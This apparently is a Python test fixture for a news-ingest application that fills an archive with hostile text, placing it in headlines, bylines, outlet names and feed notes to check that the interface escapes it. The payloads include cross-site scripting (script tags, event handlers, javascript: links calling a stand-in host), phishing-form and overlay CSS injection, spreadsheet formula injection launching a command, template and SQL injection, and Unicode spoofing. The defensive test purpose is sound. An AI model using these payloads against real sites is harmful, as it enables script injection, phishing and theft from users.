"""Texts that mean harm, as feeds, names, tags and notes may bring them; and an archive that is full of them.

Each text bears `H<number>` at its beginning, so that a test can tell which one is shown, and asks a browser for
`https://evil.invalid` or sets `window.hit` where anything of it comes alive.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from ingest.grouping import group_pending
from judge.stories import load_story_rules
from model.feed import Feed, Outcome, Outlet
from model.judgement import TOPICS, Judgement, Span
from store.archive import open_writer, writing
from store.articles import Observation, record
from store.feeds import put_feed, put_outlet, record_outcome
from store.judgements import put_judgements, put_rules, topic_bits
from tests.building import article

ROOT = Path(__file__).parents[1]
NOW = datetime.now(UTC).replace(microsecond=0)
HIT = "window.hit=1"
OUT = "https://evil.invalid"
_BODIES = (
    # Scripts and handlers
    f"<script>{HIT}</script>",
    f"<ScRiPt src={OUT}/a.js></sCrIpT>",
    f"</title><script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src='{OUT}/i.png' onload='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<body onload={HIT}>",
    f'<iframe src="javascript:parent.{HIT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<object data={OUT}/o.swf></object>",
    f"<embed src={OUT}/e.swf>",
    f"<video src={OUT}/v.mp4 autoplay onerror={HIT}></video>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<base href={OUT}/>",
    f"<link rel=stylesheet href={OUT}/s.css>",
    f"<form action={OUT}><button>Sign in</button></form>",
    f'"><script>{HIT}</script>',
    f"'-alert(1)-' onmouseover='{HIT}'",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    # Styles
    "<style>body{display:none!important}</style>",
    "</style><style>*{color:red!important;font-size:99px!important}</style>",
    f'<div style="position:fixed;inset:0;background:url({OUT}/b.png)">over all</div>',
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>veil</p>",
    f"<style>@import url({OUT}/c.css);</style>",
    # Entities
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"&amp;lt;svg onload={HIT}&amp;gt;",
    "&nbsp;&copy;&quot;&apos;&#x202e;",
    # Markdown
    f"![pixel]({OUT}/pixel.png)",
    f"![x][r]\n\n[r]: {OUT}/ref.png",
    f"[click]({OUT})",
    f"[click](javascript:{HIT})",
    f"[click](JaVaScRiPt:{HIT})",
    f"[click](data:text/html,<script>{HIT}</script>)",
    f"<{OUT}/auto>",
    f"{OUT}/bare www.evil.invalid bad@evil.invalid",
    "# Heading\n## Another\n\n---\n\n> quote",
    "**bold** __bold__ *it* ~~gone~~ `code` ```\nblock\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "- one\n- two\n  1. three",
    "[^1] and\n\n[^1]: a note",
    # Streamlit's own markup
    ":material/delete: :material/home: :streamlit:",
    ":red[red] :blue-background[blue] :rainbow[all] :small[s]",
    ":red-badge[badge] :green[:material/check: verified]",
    ":smile: :+1: :skull: :shortcode:",
    "$x^2$ $$\\frac{a}{b}$$ \\(y\\) \\[z\\]",
    "$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.invalid/t.png}$",
    "<- -> <-> -- >= <= ~= !=",
    # Plotly's own markup
    f'<b>b</b> <i>i</i> <a href="{OUT}">a</a> <br> <sub>s</sub>',
    f"<a href=\"javascript:{HIT}\">a</a> <span style='color:red'>red</span>",
    "%{customdata[0]} %{x} %{y:.2f} <extra>own</extra>",
    # Templates and formats
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "{0} {__class__} %s %(name)s %n",
    "../../etc/passwd \\\\host\\share C:\\x",
    # Spreadsheets
    '=HYPERLINK("https://evil.invalid","x")',
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "\t=1+1\r\n=2+2",
    # Letters
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u200e",
    "Z̸̢̛̗͎̲̜̤͓̙̹̽̈́̓̎̈̈́̃͝a̵̡̛̘̪̤͔̬̓̓̈́̈l̷̡̧̛̗̠̜̈́̒̽͒͠g̶̢̛̫̜̈́̽̾͠o̸̧̡̗̜̊̈́̽̾",
    "W" * 3_000,
    "word " * 600,
    "\x00\x07\x1b[31mred\x1b[0m \x7f\x85",
    "\ufeff\u200b\u2060 invisible \ud7ff\ufffd\ufffe",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧 ﷽ ﷽ ﷽",
    "مرحبا <b>بالعالم</b> שלום ![x](https://evil.invalid/rtl.png)",
    "'; DROP TABLE articles; -- \" OR 1=1",
    "",
)
TEXTS = tuple(f"H{n:02} {body}" if body else "" for n, body in enumerate(_BODIES))
"""At least sixty; the last is empty."""


def archive_of(path: Path) -> Path:
    """Every text as headline and standfirst of an article on topic, now or changed; as byline, outlet's and feed's name
    and note, as a feed's reason; as who set a tier and who wrote a note."""
    db = open_writer(path)
    with writing(db):
        rules = put_rules(db, "test-1", TOPICS, NOW)
        seen: list[Observation] = []
        for n, text in enumerate(TEXTS):
            kind = "regulator" if n % 6 == 5 else "press"
            slug = f"h{n}"
            outlet = Outlet(slug, text or slug, "GB", "en", kind, ("1", "2", "3")[n % 3], _site(n), note=text)  # type: ignore[arg-type]
            outlet_id = put_outlet(db, outlet)
            feed_id = put_feed(db, Feed(f"https://h{n}.example/{'<b>' * (n % 2)}feed", slug, text), outlet_id, NOW)
            reason = TEXTS[(n + 7) % len(TEXTS)]
            record_outcome(db, feed_id, Outcome("failed", NOW - timedelta(minutes=30), reason, "soft") if n % 4 == 0
                           else Outcome("new", NOW - timedelta(minutes=20), articles=1))  # fmt: skip
            at = NOW - timedelta(hours=1 + n % 20)
            one = article(
                f"a{n}", f"encrypted {text}", TEXTS[(n + 3) % len(TEXTS)], at=at, byline=TEXTS[(n + 5) % len(TEXTS)],
                url=f"https://h{n}.example/1" if n % 3 else f"javascript:{HIT}//{n}",
            )  # fmt: skip
            seen.append(Observation(feed_id, outlet_id, one, at + timedelta(minutes=4)))
            if n % 5 == 0:
                changed = article(f"a{n}", f"encrypted, changed: {text}", at=at, url=one.url)
                seen.append(Observation(feed_id, outlet_id, changed, at + timedelta(minutes=40)))
        ids = sorted(set(record(db, seen).changed_ids))
        spans = (Span("headline", 0, 9, "encryption", TEXTS[3]),)
        kept = [(i, Judgement(("encryption",), spans, (i % 9 - 4) / 5, "test-1")) for i in ids]
        put_judgements(db, rules, kept, topic_bits(db))
    group_pending(db, load_story_rules(ROOT / "data" / "models", meaning=False), NOW)
    db.close()
    return path


def _site(n: int) -> str:
    return f"javascript:{HIT}" if n % 2 else f"https://h{n}.example/"
